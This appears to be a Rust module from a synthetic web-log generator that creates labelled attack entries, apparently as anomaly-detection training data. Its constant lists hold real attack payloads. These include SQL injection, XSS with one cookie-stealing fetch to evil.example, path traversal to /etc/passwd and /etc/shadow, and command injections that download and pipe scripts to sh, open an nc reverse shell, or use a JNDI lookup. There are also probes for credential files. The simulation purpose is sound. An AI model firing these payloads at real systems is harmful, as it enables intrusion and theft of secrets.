//! How the anomalies of a web log look.

use super::data::{BROWSERS, Page};
use super::{HOME, LOGIN, Request, Session};
use crate::classes::Class;
use crate::random::Random;
use crate::text::{push_encoded, push_number};
use crate::world::Actor;

/// Who is behind an incident: an address, and a tool's agent where the class or chance says so.
pub(super) fn actor(class: &Class, random: &mut Random) -> Actor {
    let tool = match class.name {
        "scanner" => random.pick(&SCANNERS),
        "sql-injection" if random.chance(0.5) => "sqlmap/1.8.11#stable (https://sqlmap.org)",
        "brute-force" if random.chance(0.5) => random.pick(&SCRIPTS),
        "flood" if random.chance(0.7) => random.pick(&SCRIPTS),
        "xss" | "path-traversal" | "command-injection" if random.chance(0.4) => random.pick(&SCRIPTS),
        _ => random.pick(&BROWSERS),
    };
    Actor { address: random.address(), agent: tool, target: random.below(14), variant: random.below(3), ..Actor::default() }
}

/// The next request of an incident. `victim` is some visitor of the site: in some classes those, not the actor, are seen.
pub(super) fn request<'a>(
    class: &Class,
    actor: &mut Actor,
    victim: &Session,
    pages: &'a [Page],
    target: &'a mut String,
    random: &mut Random,
) -> Request<'a> {
    let quick = 1 + (random.exponential() * 8.0) as u32;
    let mut request = Request {
        address: actor.address,
        method: "GET",
        target: "",
        status: 200,
        bytes: 0,
        referrer: ("-", ""),
        agent: actor.agent,
        millis: quick,
    };
    let page = &pages[actor.target % pages.len()];
    match class.name {
        "server-error-burst" => {
            let part = &pages[(actor.target + random.below(3)) % pages.len()];
            target.push_str(&part.path);
            (request.address, request.agent, request.referrer) = (victim.address, victim.agent, (HOME, "/"));
            (request.status, request.bytes) = (random.pick(&[500, 500, 502, 503, 504]), 574);
            request.millis = 200 + (random.exponential() * 3_000.0) as u32;
        }
        "slow-responses" => {
            target.push_str(&page.path);
            (request.address, request.agent, request.referrer) = (victim.address, victim.agent, (HOME, "/"));
            (request.status, request.bytes) = (200, page.bytes);
            request.millis = 4_000 + (random.exponential() * 6_000.0) as u32;
        }
        "flood" => {
            target.push_str(&page.path);
            (request.status, request.bytes) = if random.chance(0.1) { (429, 162) } else { (200, page.bytes) };
        }
        "brute-force" => brute_force(actor, &pages[LOGIN], &mut request, target, random),
        "scanner" => {
            target.push_str(PROBES[(actor.variant * 17 + actor.written as usize * 7) % PROBES.len()]);
            request.status = random.pick(&[404, 404, 404, 404, 404, 404, 403, 301, 400, 200]);
            request.bytes = if request.status == 404 { 548 } else { random.between(150, 3_000) };
        }
        _ => injection(class, actor, &mut request, target, random),
    }
    request.target = target;
    request
}

fn brute_force(actor: &Actor, login: &Page, request: &mut Request<'_>, target: &mut String, random: &mut Random) {
    target.push_str(&login.path);
    request.method = "POST";
    request.millis = random.between(60, 140);
    (request.status, request.bytes) = match actor.variant {
        0 => (401, login.bytes),
        1 => (if actor.written > 20 { 403 } else { 401 }, 312),
        _ => (200, login.bytes + 64),
    };
    request.referrer = if actor.agent.starts_with("Mozilla") { (HOME, "/login") } else { ("-", "") };
}

fn injection(class: &Class, actor: &Actor, request: &mut Request<'_>, target: &mut String, random: &mut Random) {
    let payloads = match class.name {
        "sql-injection" => &SQL[..],
        "xss" => &SCRIPT,
        "path-traversal" => &TRAVERSAL,
        _ => &COMMAND,
    };
    let payload = payloads[(actor.variant * 5 + actor.written as usize) % payloads.len()];
    if class.name == "path-traversal" {
        target.push_str(random.pick(&["/static/", "/download?file=", "/img/products/", "/view?page="]));
        target.push_str(payload);
    } else {
        target.push_str(random.pick(&["/search?q=", "/products?category=", "/api/v1/items?id=", "/products?sort="]));
        push_number(target, u64::from(random.between(1, 900)));
        push_encoded(target, payload, actor.variant == 0);
    }
    let typical = [200, 200, 200, 400, 403, 500];
    request.status = if class.name == "path-traversal" { random.pick(&[404, 404, 400, 403]) } else { random.pick(&typical) };
    request.bytes = if request.status == 200 { random.between(4_000, 15_000) } else { 548 };
}

const SCANNERS: [&str; 7] = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "feroxbuster/2.11.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];

const SCRIPTS: [&str; 5] =
    ["python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1", "Python/3.12 aiohttp/3.10.5", "okhttp/4.12.0"];

const PROBES: [&str; 48] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/phpmyadmin/",
    "/phpinfo.php",
    "/admin/",
    "/administrator/",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/dump.sql",
    "/config.php.bak",
    "/web.config",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htpasswd",
    "/.svn/entries",
    "/.DS_Store",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system",
    "/manager/html",
    "/jenkins/script",
    "/cgi-bin/test.cgi",
    "/console",
    "/telescope/requests",
    "/debug/default/view",
    "/api/swagger.json",
    "/v2/_catalog",
    "/shell.php",
    "/c99.php",
    "/old/",
    "/test/",
    "/tmp/",
    "/logs/error.log",
    "/install.php",
    "/setup.php",
    "/config.json",
    "/.vscode/sftp.json",
    "/autodiscover/autodiscover.xml",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/boaform/admin/formLogin",
];

const SQL: [&str; 14] = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    " UNION SELECT NULL,NULL,NULL-- -",
    "' UNION ALL SELECT user,password,3 FROM users#",
    " AND 4127=4127",
    "' AND SLEEP(5)-- -",
    "; DROP TABLE orders;--",
    "') OR ('a'='a",
    " AND (SELECT 6213 FROM (SELECT(SLEEP(5)))wQbk)",
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -",
    " ORDER BY 12-- -",
    "'; WAITFOR DELAY '0:0:5'--",
    " UNION SELECT table_name FROM information_schema.tables",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
];

const SCRIPT: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'\"><iframe src=javascript:alert(1)>",
    "<body onload=fetch('//evil.example/?c='+document.cookie)>",
    "\" onmouseover=\"alert(1)",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<details open ontoggle=confirm(1)>",
];

const TRAVERSAL: [&str; 9] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%252f..%252f..%252fetc%252fpasswd",
    "../../../../proc/self/environ",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "../../../var/log/nginx/access.log%00.jpg",
    "/etc/passwd",
];

const COMMAND: [&str; 10] = [
    ";cat /etc/passwd",
    "|id",
    "$(curl http://198.51.100.7/x.sh|sh)",
    "`wget -qO- http://198.51.100.7/a`",
    "&& ping -c 3 198.51.100.7",
    ";nc -e /bin/sh 198.51.100.7 4444",
    "|| whoami",
    "\nid",
    "${jndi:ldap://198.51.100.7:1389/a}",
    ";uname -a;",
];
